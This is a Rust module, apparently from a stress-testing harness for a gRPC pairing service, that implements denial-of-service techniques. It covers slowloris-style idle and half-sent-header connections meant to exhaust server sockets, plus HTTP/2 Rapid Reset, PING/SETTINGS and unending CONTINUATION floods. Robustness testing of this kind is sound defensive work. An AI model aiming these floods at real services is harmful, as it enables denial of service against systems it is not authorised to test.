//! Connections that do not call, and floods of frames.

use std::sync::Arc;

use anyhow::Result;
use futures::future::join_all;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::yield_now,
    time::{Duration, sleep},
};

use super::{
    Tally, Target,
    wire::{CONTINUATION, HEADERS, PING, RST_STREAM, SETTINGS, Wire, head},
};

/// More than the program has places for.
const SOCKETS: usize = 224;

const REST: Duration = Duration::from_millis(100);

const LIST: &str = "/tongxin.pairing.v1.PairingService/ListOrganisations";

/// Opens sockets, says the beginning of something on each, and anew where it is cut off.
async fn keep_open(target: &Target, tally: &Tally, begin: &[u8]) -> Result<()> {
    let sockets = (0..SOCKETS).map(|_| async {
        loop {
            tally.sent();
            if let Ok(mut stream) = TcpStream::connect(&target.address).await {
                let _ = stream.write_all(begin).await;
                let mut answer = [0; 256];
                while matches!(stream.read(&mut answer).await, Ok(1..)) {}
            }
            tally.refused();
            sleep(REST).await;
        }
    });
    join_all(sockets).await.into_iter().collect()
}

pub(super) async fn idle(target: Target, tally: Arc<Tally>) -> Result<()> {
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    keep_open(&target, &tally, preface).await
}

pub(super) async fn silent(target: Target, tally: Arc<Tally>) -> Result<()> {
    keep_open(&target, &tally, b"").await
}

pub(super) async fn half_heads(target: Target, tally: Arc<Tally>) -> Result<()> {
    keep_open(&target, &tally, format!("POST {LIST} HTTP/1.1\r\nhost: x\r\ncontent-ty").as_bytes()).await
}

/// Frames that are sent as fast as they are taken.
enum Flood {
    /// Calls with this token that are given up at once.
    Resets(String),
    Pings,
    /// None of them ends the headers.
    Continuations,
}

impl Flood {
    async fn send(&self, wire: &mut Wire) -> std::io::Result<()> {
        match self {
            Self::Resets(token) => {
                let stream = wire.call(LIST, Some(token), false).await?;
                wire.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()).await
            }
            Self::Pings => {
                wire.frame(PING, 0, 0, &[0; 8]).await?;
                wire.frame(SETTINGS, 0, 0, &[]).await
            }
            Self::Continuations => {
                wire.frame(HEADERS, 0, 1, &head(LIST, None)).await?;
                for _ in 0..100 {
                    wire.frame(CONTINUATION, 0, 1, &head(LIST, None)).await?;
                }
                Ok(())
            }
        }
    }

    /// On two connections at once, and anew wherever they are ended.
    async fn begin(self, target: &Target, tally: &Arc<Tally>) -> Result<()> {
        tokio::join!(self.on_one(target, tally), self.on_one(target, tally));
        Ok(())
    }

    async fn on_one(&self, target: &Target, tally: &Arc<Tally>) {
        loop {
            let Ok(mut wire) = Wire::open(&target.address, &[], Arc::clone(tally)).await else { continue };
            while !wire.is_over() {
                tally.sent();
                if self.send(&mut wire).await.is_err() {
                    break;
                }
                yield_now().await;
            }
            sleep(REST).await;
        }
    }
}

pub(super) async fn rapid_reset(target: Target, tally: Arc<Tally>) -> Result<()> {
    Flood::Resets(target.token("village", "reset")?).begin(&target, &tally).await
}

pub(super) async fn pings(target: Target, tally: Arc<Tally>) -> Result<()> {
    Flood::Pings.begin(&target, &tally).await
}

pub(super) async fn continuations(target: Target, tally: Arc<Tally>) -> Result<()> {
    Flood::Continuations.begin(&target, &tally).await
}
